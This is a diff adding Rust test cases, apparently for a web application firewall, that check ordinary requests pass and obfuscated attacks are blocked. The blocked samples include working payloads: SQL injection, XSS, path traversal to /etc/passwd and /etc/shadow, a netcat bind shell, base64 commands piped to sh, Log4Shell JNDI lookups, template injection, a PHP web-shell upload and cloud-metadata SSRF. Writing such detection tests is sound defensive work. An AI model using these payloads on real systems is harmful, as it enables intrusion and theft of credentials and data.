@@ -397,3 +397,379 @@ fn headers_and_paths() {
         assert_eq!(a.verdict, verdict, "{path}: {a:?}");
     }
 }
+
+/// More ordinary traffic the dev sets lack, written for this test: shell and SQL named in
+/// prose and search queries, Markdown, base64 and tokens, non-English text with
+/// apostrophes, GraphQL with variables, code snippets of other languages, CI and Helm
+/// templates. Each passes at paranoia 1 in every carrier.
+#[test]
+fn more_ordinary_traffic_passes() {
+    for text in [
+        // Shell and SQL named in prose, programming search queries.
+        "To list files, type ls -la in the terminal",
+        "Use `grep -rn TODO src/` to find the todos",
+        "Run `docker compose up -d` then open localhost:8080",
+        "The WHERE clause filters rows; AND binds tighter than OR",
+        "Use COUNT(*) to count rows and GROUP BY to bucket them",
+        "sum(price) over (partition by customer)",
+        "python list comprehension if else",
+        "c++ std::vector push_back vs emplace_back",
+        "rust Option<T> unwrap_or_else",
+        "git reset --hard HEAD~1",
+        "regex ^[a-z0-9_-]{3,16}$",
+        "powershell get-childitem recurse",
+        "how do I kill a process on port 3000",
+        "what is the difference between cat and less",
+        "wget vs curl: which to use?",
+        "/usr/local/bin is on my PATH",
+        "We'll select the winners and union them into one team",
+        "Order 66 -- executed",
+        "Sleep(8 hours) is important",
+        "eval is evil",
+        "on error resume next",
+        "the \"onload\" event fires after the page loads",
+        // Markdown and mail.
+        "# Title\n\n- item 1\n- item 2\n\n```python\nprint('hi')\n```",
+        "> quoted text\n\n| a | b |\n|---|---|\n| 1 | 2 |",
+        "Hi Bob,\n\nPlease find attached the report.\n\nThanks,\nAlice",
+        // Base64 blobs, whatever they decode to: nothing decodes base64 at paranoia 1.
+        "SGVsbG8sIFdvcmxkIQ==",
+        "U0VMRUNUICogRlJPTSB1c2VycyBXSEVSRSAxPTE=",
+        "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        // Non-English text with apostrophes and scripts of other languages.
+        "l'école d'été commence lundi",
+        "Com'è andata? Tutto bene, grazie",
+        "İstanbul'da hava nasıl?",
+        "مرحبا بالعالم",
+        "नमस्ते दुनिया",
+        "안녕하세요 세계",
+        "Great job 🎉🚀 see you at 5pm",
+        // GraphQL with variables, URLs, file names, names with apostrophes.
+        "query($id: ID!) { user(id: $id) { name email } }",
+        "{\"query\":\"query { viewer { login } }\",\"variables\":{}}",
+        "https://www.google.com/url?sa=t&url=https%3A%2F%2Fexample.com%2Fpage",
+        "résumé (final).docx",
+        "IMG_2024-01-01_12-00-00.HEIC",
+        "passwd-reset-instructions.pdf",
+        "D'Angelo's Pizza & Grill",
+        "O'Reilly Media - Learning SQL, 3rd edition",
+        "+1 (555) 123-4567 ext. 22; ask for Bob",
+        "1' tall shelf",
+        "It's a 'must-have' for 'beginners'",
+        // Code of other languages and templates of CI, Helm, Jinja, ERB.
+        "function() { return this; }",
+        "constructor() { super(); }",
+        "System.out.println(\"hello\");",
+        "Console.WriteLine($\"Hello {name}\");",
+        "date_add(now(), interval 8 hour)",
+        "cast(x as char)",
+        "${{ secrets.GITHUB_TOKEN }}",
+        "{{ .Values.image.tag }}",
+        "{{ user.first_name }}",
+        "<%= link_to 'Home', root_path %>",
+        "x = y || z",
+        "2 * (3 + 4) = 14",
+        // Package summaries naming what they handle.
+        "A fast JSON parser for C++ with SIMD; parse 1 GB/s",
+        "CLI tool to convert CSV to SQL INSERT statements",
+        "Lint your Dockerfile; warns about RUN apt-get update without install",
+        "Helper for building WHERE clauses: where(\"age > ?\", 18)",
+        "Simple ORM: User.select(:id, :name).where(active: true).order(created_at: :desc)",
+        "Validate JSON against a schema; supports $ref and $id",
+        "Parse `${VAR:-default}` in docker-compose files",
+        "Escape HTML entities like &lt; &gt; &amp; &quot; in strings",
+        "Prevents SQL injection by escaping ' and \\ in user input",
+        "Path traversal checker: rejects ../ in uploaded file names",
+        "SQL formatter: turns 'select a,b from t where x=1' into pretty SQL",
+        "Netlify redirect rules: /old/* /new/:splat 301",
+        "Copies /srv/www/*.html to the bucket",
+        "Patch for CVE-2021-44228 (log4j JNDI lookups disabled)",
+        "Detects ${jndi: patterns in logs",
+        "The system() call in C runs a shell command",
+        "Delete from cart button not working",
+        "Update: drop support for Python 3.7",
+        "x' is fine by me",
+        "Mon-Fri 9:00-17:00; Sat 10:00-14:00",
+        "Price: $10 (was $15) -- 33% off!",
+        "Item #4 - 'Deluxe' edition",
+        // Version constraints, legacy form field names and CSS values.
+        "node >= 18",
+        "Let's meet at 5; sleep 8 hours",
+        "Best sellers | Top 10",
+        "Step 1; wait 5",
+        "python <= 3.11",
+        "~1.2.3 || ^2.0.0",
+        "ctl00$MainContent$txtSearch",
+        "javax.faces.ViewState",
+        "calc(100% - 20px)",
+        "a[href^=\"http\"]::after { content: \"↗\" }",
+        "SELECT/INSERT/UPDATE privileges",
+        "%USERPROFILE%\\AppData\\Local",
+        "./configure --prefix=/usr/local",
+    ] {
+        each_carrier(text, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
+        });
+    }
+}
+
+/// Attacks obfuscated the ways the grammar allows: case, versioned and inline comments,
+/// concatenation, hex and `CHAR()` literals, entities, tagged templates, encodings of the
+/// separator, shell expansions standing for spaces and brace lists, template engines and
+/// lookups of other products, serialized objects.
+#[test]
+fn obfuscated_attacks_are_blocked() {
+    for attack in [
+        // SQL.
+        "uNiOn sElEcT password FrOm users",
+        "1 /*!50000union*/ /*!50000select*/ 1,2,3",
+        "1 UNION\nSELECT 1",
+        "x' oR 'a'='a",
+        "1'||'1'='1",
+        "admin'--",
+        "' union select char(97,100,109,105,110)--",
+        "'+(select top 1 name from sysobjects)+'",
+        "1 and 0x61646d696e=0x61646d696e",
+        "1;waitfor delay '0:0:5'--",
+        "1 or sleep(5)#",
+        "' and extractvalue(1,concat(0x7e,version()))--",
+        "1' and substring(@@version,1,1)='5",
+        "' having 1=1--",
+        "-1 union select null,table_name from information_schema.tables--",
+        // HTML and script.
+        "<ScRiPt>alert(1)</sCrIpT>",
+        "<img src=x oNeRrOr=alert`1`>",
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+        "<body onpageshow=alert(1)>",
+        "<a href=\"&#106;avascript:alert(1)\">x</a>",
+        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
+        "';alert(String.fromCharCode(88,83,83))//",
+        "</script><script>alert(1)</script>",
+        "<input autofocus onfocus=alert(1)>",
+        "<style>@import'//evil.example/x.css';</style>",
+        "<form action=javascript:alert(1)><input type=submit>",
+        "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
+        "(function(){ alert(1) })()",
+        // Paths.
+        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+        "..%c0%af..%c0%afetc/passwd",
+        "..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
+        "/var/www/../../etc/shadow",
+        "file:///c:/windows/win.ini",
+        "/proc/self/environ",
+        // Shell.
+        ";${IFS}cat${IFS}/etc/passwd",
+        "|| whoami",
+        "$(echo aWQ= | base64 -d | sh)",
+        "; python -c 'import socket,subprocess,os'",
+        "; perl -e 'exec \"/bin/sh\";'",
+        "& powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=",
+        "{cat,/etc/passwd}",
+        ";nc -lvp 4444 -e /bin/bash",
+        "1;sleep${IFS}5",
+        // Templates, Java, PHP, LDAP, SSRF, lookups.
+        "{{''.__class__.__mro__[1].__subclasses__()}}",
+        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
+        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
+        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
+        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
+        "new java.lang.ProcessBuilder(\"id\").start()",
+        "phar://./uploads/avatar.jpg/test.txt",
+        "expect://id",
+        "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));",
+        "<?= system($_GET[0]) ?>",
+        "*)(uid=*))(|(uid=*",
+        "http://[::1]:22/",
+        "http://metadata.google.internal/computeMetadata/v1/",
+        "${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://x.example/a}",
+        "${j${::-n}di:ldap://x.example/a}",
+        "<!--#include virtual=\"/etc/passwd\" -->",
+        "{\"$where\":\"sleep(1000)\"}",
+        "constructor[prototype][isAdmin]=true",
+        // Shapes next to the prose ones above: a glob for letters of a name, `IS NULL`
+        // after a quote, a complete DELETE, a closed lookup.
+        "/usr/bin/ca* /et?/passwd",
+        "/???/??t /???/p??s??",
+        "id >/tmp/x",
+        // Time-based blind command injection: a program and a count after a separator.
+        ";sleep 5;",
+        "`sleep 5`",
+        "a\nsleep 5",
+        "' is null--",
+        "delete from users where 1=1",
+        "${jndi:dns://x.example/a}",
+    ] {
+        each_carrier(attack, |carrier, a| {
+            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
+        });
+    }
+}
+
+fn header_request(name: &str, value: &str) -> Assessment {
+    let engine = Config::default().compile().unwrap();
+    let hs = vec![
+        ("host".to_string(), "www.example".to_string()),
+        (name.to_string(), value.to_string()),
+    ];
+    engine.inspect(&Request::new("GET", "/").with_headers(&hs))
+}
+
+/// Cookies and request headers: what browsers, SDKs and crawlers send passes; an attack in
+/// a cookie value or in a header an application logs or reflects is blocked.
+#[test]
+fn cookies_and_headers() {
+    for (name, value) in [
+        (
+            "cookie",
+            "_ga=GA1.2.1234567890.1600000000; _gid=GA1.2.987654321.1600000000",
+        ),
+        (
+            "cookie",
+            "session=eyJhbGciOiJIUzI1NiJ9.eyJ1c2VyIjoiYW5uIn0.abc-def_ghi; theme=dark; lang=en-US",
+        ),
+        (
+            "cookie",
+            "cart=%7B%22items%22%3A%5B%7B%22id%22%3A12%2C%22qty%22%3A2%7D%5D%7D",
+        ),
+        (
+            "cookie",
+            "prefs={\"tz\":\"Europe/Berlin\",\"cols\":[\"name\",\"date\"]}",
+        ),
+        (
+            "cookie",
+            "consent=necessary:true|analytics:false|marketing:false",
+        ),
+        ("cookie", "last_search=select+a+plan; recent=../docs/intro"),
+        ("cookie", "returnTo=/account/orders?page=2&sort=date"),
+        (
+            "cookie",
+            "AWSALB=Zx8/hV1m+4kqZp0lzL6Q==; AWSALBCORS=Zx8/hV1m+4kqZp0lzL6Q==",
+        ),
+        ("cookie", "name=O'Brien; city=Coeur d'Alene"),
+        ("authorization", "Basic dXNlcjpwYXNzd29yZA=="),
+        (
+            "referer",
+            "https://www.google.com/search?q=how+to+select+from+two+tables+sql",
+        ),
+        (
+            "referer",
+            "https://stackoverflow.com/questions/123/why-does-rm-rf-not-work",
+        ),
+        (
+            "user-agent",
+            "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A.230803.041)",
+        ),
+        (
+            "user-agent",
+            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        ),
+        (
+            "user-agent",
+            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+        ),
+        ("user-agent", "python-requests/2.31.0"),
+        ("if-none-match", "W/\"5e15153d-120f\""),
+    ] {
+        let a = header_request(name, value);
+        assert_eq!(a.verdict, Verdict::Allow, "{name}: {value:?} -> {a:?}");
+    }
+    for (name, value) in [
+        ("cookie", "session=1' or '1'='1"),
+        ("cookie", "lang=../../../../etc/passwd"),
+        ("cookie", "theme=${jndi:ldap://x.example/a}"),
+        ("cookie", "pref=<script>alert(1)</script>"),
+        ("cookie", "id=1 union select password from users--"),
+        ("cookie", "x=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+        ("user-agent", "() { :; }; /bin/bash -c 'id'"),
+        ("user-agent", "Mozilla/5.0' and sleep(5)#"),
+        ("user-agent", "Mozilla/5.0 <script>alert(1)</script>"),
+        ("x-forwarded-for", "127.0.0.1' or 1=1--"),
+        ("referer", "https://evil.example/<script>alert(1)</script>"),
+        ("x-api-version", "${jndi:ldap://x.example/a}"),
+    ] {
+        let a = header_request(name, value);
+        assert_eq!(a.verdict, Verdict::Block, "{name}: {value:?} -> {a:?}");
+    }
+}
+
+fn body_request(content_type: &str, body: &str) -> Assessment {
+    let engine = Config::default().compile().unwrap();
+    let hs = vec![
+        ("host".to_string(), "api.example".to_string()),
+        ("content-type".to_string(), content_type.to_string()),
+    ];
+    engine.inspect(
+        &Request::new("POST", "/api/items")
+            .with_headers(&hs)
+            .with_body(body.as_bytes()),
+    )
+}
+
+/// XML and multipart bodies: documents and uploads of ordinary applications pass; the same
+/// attacks as elsewhere in an element, an attribute, a CDATA section, a form part or an
+/// upload's file name are blocked.
+#[test]
+fn xml_and_multipart_bodies() {
+    let xml = "application/xml";
+    for body in [
+        "<?xml version=\"1.0\"?><order id=\"42\"><item sku=\"A-1\" qty=\"2\">Coffee &amp; tea</item><note>Leave at the door; ring twice</note></order>",
+        "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>Release notes</title><entry><content type=\"html\">&lt;p&gt;Fixed &lt;b&gt;bugs&lt;/b&gt;&lt;/p&gt;</content></entry></feed>",
+        "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetUser><Name>O'Brien</Name></GetUser></soap:Body></soap:Envelope>",
+        "<config><path>/var/lib/app/data</path><query>select a plan</query></config>",
+    ] {
+        let a = body_request(xml, body);
+        assert_eq!(a.verdict, Verdict::Allow, "{body}: {a:?}");
+    }
+    for body in [
+        "<user><name>' UNION SELECT password FROM users--</name></user>",
+        "<comment><![CDATA[<script>alert(1)</script>]]></comment>",
+        "<file path=\"../../../../etc/passwd\"/>",
+        "<cmd>;cat /etc/shadow</cmd>",
+        "<a><b><c><d>${jndi:ldap://x.example/a}</d></c></b></a>",
+    ] {
+        let a = body_request(xml, body);
+        assert_eq!(a.verdict, Verdict::Block, "{body}: {a:?}");
+    }
+    let multipart = "multipart/form-data; boundary=XyZ";
+    let part = |headers: &str, content: &str| {
+        format!("--XyZ\r\n{headers}\r\n\r\n{content}\r\n--XyZ--\r\n")
+    };
+    for body in [
+        part(
+            "Content-Disposition: form-data; name=\"bio\"",
+            "I write SQL for a living; select is my favourite word.",
+        ),
+        part(
+            "Content-Disposition: form-data; name=\"avatar\"; filename=\"me (1).png\"\r\nContent-Type: image/png",
+            "PNG data",
+        ),
+        part(
+            "Content-Disposition: form-data; name=\"doc\"; filename=\"résumé.pdf\"\r\nContent-Type: application/pdf",
+            "%PDF-1.7",
+        ),
+    ] {
+        let a = body_request(multipart, &body);
+        assert_eq!(a.verdict, Verdict::Allow, "{body}: {a:?}");
+    }
+    for body in [
+        part(
+            "Content-Disposition: form-data; name=\"bio\"",
+            "x' or 1=1 -- ",
+        ),
+        part(
+            "Content-Disposition: form-data; name=\"file\"; filename=\"../../etc/passwd\"",
+            "x",
+        ),
+        part(
+            "Content-Disposition: form-data; name=\"file\"; filename=\"shell.php\"\r\nContent-Type: image/png",
+            "<?php system($_GET['c']); ?>",
+        ),
+        part(
+            "Content-Disposition: form-data; name=\"comment\"",
+            "<img src=x onerror=alert(1)>",
+        ),
+    ] {
+        let a = body_request(multipart, &body);
+        assert_eq!(a.verdict, Verdict::Block, "{body}: {a:?}");
+    }
+}
